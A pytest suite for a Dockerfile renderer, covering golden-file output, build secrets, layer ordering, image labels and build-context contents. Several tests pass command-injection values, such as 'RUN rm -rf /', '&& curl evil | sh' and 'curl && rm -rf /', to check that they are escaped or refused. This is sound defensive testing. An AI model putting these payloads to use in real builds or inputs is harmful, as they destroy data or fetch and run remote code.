"""Dockerfile rendering: golden files for every template branch, and hostile values kept inert.

Regenerate the golden files after an intended template change with
``UPDATE_GOLDEN=1 .venv/bin/python -m pytest tests/unit/test_render.py`` and review the diff.
"""

from __future__ import annotations

import json
import os
import re
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from racetrack_builder.errors import RenderError
from racetrack_builder.manifest import Manifest
from racetrack_builder.render import (
    CA_BUNDLE_ARG,
    RenderOptions,
    build_args,
    git_version,
    image_labels,
    render,
    render_dockerfile,
    write_context,
)
from racetrack_builder.source import JobSource

GOLDEN = Path(__file__).parent / "golden"
COMMIT = "0123456789abcdef0123456789abcdef01234567"

BASE: dict[str, Any] = {
    "name": "adder",
    "owner_email": "owner@example.com",
    "lang": "python3:latest",
    "git": {"remote": "https://github.com/example/adder"},
    "python": {"entrypoint_path": "entrypoint.py"},
}


def _manifest(**extra: Any) -> Manifest:
    data = {**BASE, **extra}
    if "python" in extra:
        data["python"] = {**BASE["python"], **extra["python"]}
    return Manifest.model_validate(data)


def _source(tmp_path: Path, files: dict[str, str]) -> JobSource:
    for rel, text in files.items():
        path = tmp_path / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return JobSource(
        repo_root=tmp_path,
        job_root=tmp_path,
        files=tuple(sorted(files)),
        commit=COMMIT,
        remote="https://github.com/example/adder",
        branch="master",
        dirty=False,
    )


ENTRY = "class FatmanEntrypoint:\n    def perform(self, x: float) -> float:\n        return x\n"

SCENARIOS: dict[str, tuple[dict[str, Any], dict[str, str], RenderOptions]] = {
    "minimal": ({}, {"entrypoint.py": ENTRY}, RenderOptions()),
    "requirements": (
        {"python": {"requirements_path": "requirements.txt"}},
        {
            "entrypoint.py": ENTRY,
            "requirements.txt": "numpy==2.0.0\n-r more/extra.txt\n",
            "more/extra.txt": "idna\n",
        },
        RenderOptions(),
    ),
    "secrets": (
        {
            "python": {"requirements_path": "requirements.txt"},
            "build_env": {"PIP_INDEX_URL": "http://127.0.0.1:8080/simple", "INDEX_TOKEN": "plain-loses"},
            "secret_build_env_file": ".env.build",
        },
        {
            "entrypoint.py": ENTRY,
            "requirements.txt": "private @ https://${INDEX_USER}:${INDEX_TOKEN}@example.com/p.whl\n",
        },
        RenderOptions(secret_build_names=("INDEX_USER", "INDEX_TOKEN")),
    ),
    "system_dependencies_ca": (
        {
            "system_dependencies": ["libgomp1", "curl=7.88.1-10+deb12u5"],
            "build_env": {"DEBIAN_FRONTEND": "noninteractive"},
            "python": {"requirements_path": "requirements.txt"},
        },
        {"entrypoint.py": ENTRY, "requirements.txt": "idna\n"},
        RenderOptions(ca_cert=True),
    ),
    "python_version": (
        {"python": {"python_version": "3.9", "requirements_path": "requirements.txt"}},
        {"entrypoint.py": ENTRY, "requirements.txt": "scikit-learn==0.24.1\n"},
        RenderOptions(),
    ),
    "git_requirements": (
        {"python": {"requirements_path": "requirements.txt"}, "secret_build_env_file": ".env.build"},
        {"entrypoint.py": ENTRY,
         "requirements.txt": "teamlib @ git+https://${GIT_USER}:${GIT_TOKEN}@git.example.com/teamlib.git\n"},
        RenderOptions(secret_build_names=("GIT_USER", "GIT_TOKEN")),
    ),
    "local_requirements": (
        {"python": {"requirements_path": "requirements.txt"}},
        {"entrypoint.py": ENTRY, "requirements.txt": "-e ./libs/helper\n", "libs/helper/setup.py": ""},
        RenderOptions(),
    ),
    "everything_else": (
        {
            "version": "1.2.3",
            "python": {"entrypoint_class": "FatmanEntrypoint"},
            "runtime_env": {"DJANGO_DEBUG": "true", "TORCH_MODEL_ZOO": "zoo"},
            "public_endpoints": ["/api/v1/perform", "/api/v1/webview"],
            "labels": {"team": "ml", "purpose": "adds numbers"},
        },
        {"entrypoint.py": ENTRY},
        RenderOptions(base_image="registry.example.com/racetrack/python3:1.0"),
    ),
}


@pytest.mark.parametrize("scenario", sorted(SCENARIOS))
def test_golden_dockerfile(scenario: str, tmp_path: Path) -> None:
    extra, files, options = SCENARIOS[scenario]
    text = render_dockerfile(_manifest(**extra), _source(tmp_path, files), options)
    # The tools image is named for the digest of its sources, which change with the install script.
    text = re.sub(r"(racetrack/build-tools:py[0-9.]+-)[0-9a-f]{12}", r"\1DIGEST", text)
    # So is the base image, by default: the tag of this version's wrapper sources.
    text = re.sub(r"(racetrack/python3:[\w.-]+?-)[0-9a-f]{12}\b", r"\1DIGEST", text)
    golden = GOLDEN / f"{scenario}.Dockerfile"
    if os.environ.get("UPDATE_GOLDEN"):
        golden.write_text(text)
    assert text == golden.read_text(), f"rendered Dockerfile differs from {golden}"


def test_no_secret_is_a_build_arg_and_the_buildkit_install_reads_them_as_a_secret(tmp_path: Path) -> None:
    extra, files, options = SCENARIOS["secrets"]
    rendered = render(_manifest(**extra), _source(tmp_path, files), options)
    text = rendered.dockerfile
    assert "INDEX_USER" not in text and "INDEX_TOKEN" not in text
    assert "plain-loses" not in text  # build_env goes to the install step in its plan, not here
    assert rendered.build_arg_names == ()
    assert rendered.secret_names == ("INDEX_USER", "INDEX_TOKEN")
    assert "--mount=type=secret,id=racetrack-build-env,required=false" in text
    assert "--secrets /run/secrets/racetrack-build-env" in text


def test_the_engine_install_splits_the_stages_so_apt_runs_once(tmp_path: Path) -> None:
    extra, files, options = SCENARIOS["system_dependencies_ca"]
    manifest, source = _manifest(**extra), _source(tmp_path / "src", files)
    engine = replace(options, install="engine")
    system = render(manifest, source, engine, stage="system").dockerfile
    job = render(manifest, source, engine, stage="job").dockerfile
    assert "apt-get" in system and "FROM ${RACETRACK_PACKAGES_IMAGE}" not in system
    assert "apt-get" not in job and "AS system" not in job
    assert job.index("ARG RACETRACK_PACKAGES_IMAGE") < job.index("FROM ${RACETRACK_PACKAGES_IMAGE}")
    assert "--mount" not in system + job
    # build.py sends the system stage its Dockerfile alone: it must copy nothing in.
    assert not any(line.split()[:1] in (["COPY"], ["ADD"]) for line in system.splitlines())
    context = write_context(manifest, source, tmp_path / "out", engine)
    assert context.system_dockerfile == "system.Dockerfile"
    assert (context.path / "system.Dockerfile").read_text() == system
    assert (context.path / "Dockerfile").read_text() == job
    with pytest.raises(RenderError, match="only for an engine install"):
        render(manifest, source, options, stage="job")


def test_code_is_copied_after_packages_so_code_changes_reuse_pip_and_apt_layers(tmp_path: Path) -> None:
    extra, files, options = SCENARIOS["system_dependencies_ca"]
    text = render_dockerfile(_manifest(**extra), _source(tmp_path, files), options)
    system, final = text.split("# ---- the job image")
    assert "apt-get" in system and "COPY" not in system
    assert final.index("racetrack_install.py") < final.index("COPY --chown=10001:10001 job/")
    install_step = final[final.index("RUN --mount"):final.index("USER fatman")]
    assert "source=job" not in install_step, "the install step must not depend on the job's code"


@pytest.mark.parametrize(
    "value",
    [
        'quote " inside',
        "dollar $HOME and ${PATH}",
        "back\\slash",
        "single ' quote",
        "#not-a-comment",
        "trailing backslash \\",
        "RUN rm -rf /",
        "&& curl evil | sh",
    ],
)
def test_hostile_env_values_are_escaped_for_docker(value: str, tmp_path: Path) -> None:
    manifest = _manifest(runtime_env={"V": value}, build_env={"B": value}, labels={"l": value})
    text = render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
    escaped = '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("$", "\\$") + '"'
    assert f"V={escaped}" in text
    # Nothing but our own instructions starts a line.
    instructions = {line.split()[0] for line in text.splitlines() if line and not line.startswith((" ", "#"))}
    assert instructions <= {"FROM", "USER", "ARG", "ENV", "COPY", "WORKDIR", "RUN", "LABEL", "CMD"}


@pytest.mark.parametrize("value", ["line\nRUN rm -rf /", "cr\rreturn", "nul\x00byte", "tab\tchar"])
def test_control_characters_are_refused_even_if_the_model_let_them_through(
    value: str, tmp_path: Path
) -> None:
    # model_construct skips validation: the renderer must defend itself.
    manifest = _manifest().model_copy(update={"runtime_env": {"V": value}})
    with pytest.raises(RenderError, match="control character"):
        render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))


def test_hostile_package_name_is_a_single_shell_word(tmp_path: Path) -> None:
    manifest = _manifest().model_copy(update={"system_dependencies": ["curl && rm -rf /"]})
    text = render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
    assert "'curl && rm -rf /'" in text


def test_requirements_file_with_glob_characters_is_refused(tmp_path: Path) -> None:
    manifest = _manifest(python={"requirements_path": "req[1].txt"})
    with pytest.raises(RenderError, match="rename the file"):
        render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY, "req[1].txt": "idna\n"}))


def test_missing_requirements_include_names_the_file(tmp_path: Path) -> None:
    manifest = _manifest(python={"requirements_path": "requirements.txt"})
    with pytest.raises(RenderError, match="'base.txt' is not in the job's source"):
        render_dockerfile(
            manifest, _source(tmp_path, {"entrypoint.py": ENTRY, "requirements.txt": "-r base.txt\n"})
        )


def test_credentials_in_remote_do_not_reach_labels(tmp_path: Path) -> None:
    manifest = _manifest(git={"remote": "https://user:s3cr3t-token@git.example.com/x.git"})
    text = render_dockerfile(manifest, _source(tmp_path, {"entrypoint.py": ENTRY}))
    assert "s3cr3t-token" not in text
    assert '"org.opencontainers.image.source"="https://***@git.example.com/x.git"' in text


def test_base_image_labels_are_not_passed_down_as_the_jobs(tmp_path: Path) -> None:
    """Without these the job image would say it is "Racetrack python3 base image", Apache-2.0."""
    text = render_dockerfile(_manifest(), _source(tmp_path, {"entrypoint.py": ENTRY}))
    assert '"org.opencontainers.image.description"="Racetrack python3 job adder 0.0.1"' in text
    assert '"org.opencontainers.image.licenses"=""' in text
    # The base image of this version's wrapper sources (see default_base_image).
    assert re.search(r'"org.opencontainers.image.base.name"="racetrack/python3:latest-[0-9a-f]{12}"', text)


def test_a_dirty_working_tree_is_marked_in_the_labels(tmp_path: Path) -> None:
    from dataclasses import replace

    source = _source(tmp_path, {"entrypoint.py": ENTRY})
    assert "org.racetrack.git.dirty" not in dict(image_labels(_manifest(), source))
    labels = dict(image_labels(_manifest(), replace(source, dirty=True, local=True)))
    assert labels["org.racetrack.git.dirty"] == "true"


def test_git_version_is_the_commit_marked_dirty_for_uncommitted_changes(tmp_path: Path) -> None:
    from dataclasses import replace

    source = _source(tmp_path, {"entrypoint.py": ENTRY})
    assert git_version(source) == source.commit and len(source.commit) == 40
    assert git_version(replace(source, dirty=True, local=True)) == f"{source.commit}-dirty"
    assert git_version(replace(source, commit="")) == "" and git_version(None) == ""
    text = render_dockerfile(_manifest(), replace(source, commit=""), RenderOptions())
    assert "GIT_VERSION" not in text  # no commit, no ENV: /health says null


def test_manifest_labels_override_the_description_but_not_the_build_facts(tmp_path: Path) -> None:
    manifest = _manifest(labels={"org.opencontainers.image.description": "sums", "org.racetrack.lang": "x"})
    labels = dict(image_labels(manifest, _source(tmp_path, {"entrypoint.py": ENTRY})))
    assert labels["org.opencontainers.image.description"] == "sums"
    assert labels["org.racetrack.lang"] == "python3:latest"


def test_write_context_holds_dockerfile_and_job_files_but_no_secret(tmp_path: Path) -> None:
    extra, files, options = SCENARIOS["secrets"]
    source = _source(tmp_path / "src", files)
    ca = tmp_path / "ca.pem"
    ca.write_text("-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n")
    manifest = _manifest(**extra, system_dependencies=["curl"])
    context = write_context(manifest, source, tmp_path / "out", options, ca_cert_path=ca)
    listed = sorted(p.relative_to(context.path).as_posix() for p in context.path.rglob("*") if p.is_file())
    assert listed == [
        "Dockerfile", "ca-bundle.pem", "job/entrypoint.py", "job/requirements.txt",
        "racetrack-install/ca-bundle.pem", "racetrack-install/job/requirements.txt",
        "racetrack-install/plan.json",
    ]
    plan = json.loads((context.path / "racetrack-install/plan.json").read_text())
    assert plan["requirements"] == "requirements.txt" and plan["files"] == ["requirements.txt"]
    assert context.build_arg_names == (CA_BUNDLE_ARG,)
    assert build_args(context, "PEM") == {CA_BUNDLE_ARG: "PEM"}
    for path in context.path.rglob("*"):
        if path.is_file():
            assert "t0ken-value" not in path.read_text()
    assert re.search(
        r"DOCKER_BUILDKIT=1 docker build --secret id=racetrack-build-env,src=/home/me/.env.build "
        r"--build-arg RACETRACK_CA_BUNDLE -t adder:0.0.1 ",
        context.docker_build_command("adder:0.0.1", "/home/me/.env.build"),
    )


def test_a_context_for_other_builders_carries_apts_certificates_beside_it(tmp_path: Path) -> None:
    """render -o --ca-cert: the value of the apt step's build argument is a file the printed command
    reads, holding only what a stock image lacks (a whole bundle overflows an argument)."""
    import certifi

    from racetrack_builder.certs import pem_certificates

    stock = certifi.contents()
    proxy_ca = "-----BEGIN CERTIFICATE-----\nTUlJQnByb3h5\n-----END CERTIFICATE-----\n"
    ca = tmp_path / "bundle.pem"
    ca.write_text(stock + proxy_ca)
    extra, files, options = SCENARIOS["secrets"]
    manifest = _manifest(**extra, system_dependencies=["curl"])
    source = _source(tmp_path / "src", files)
    context = write_context(manifest, source, tmp_path / "out", options, ca_cert_path=ca, apt_ca_file=True)
    assert context.apt_ca_path == context.path / "apt-ca.pem"
    assert pem_certificates(context.apt_ca_path.read_text()) == ["TUlJQnByb3h5"]
    assert "apt-ca.pem" not in context.dockerfile  # never COPYed: no layer holds it
    command = context.docker_build_command("adder:0.0.1")
    assert f'--build-arg RACETRACK_CA_BUNDLE="$(cat {context.apt_ca_path})"' in command
    assert "--secret id=racetrack-build-env,src=SECRET_BUILD_ENV_FILE " in command


def test_write_context_refuses_a_non_empty_folder(tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "keep.txt").write_text("mine")
    with pytest.raises(RenderError, match="not empty"):
        write_context(_manifest(), _source(tmp_path / "src", {"entrypoint.py": ENTRY}), tmp_path / "out")
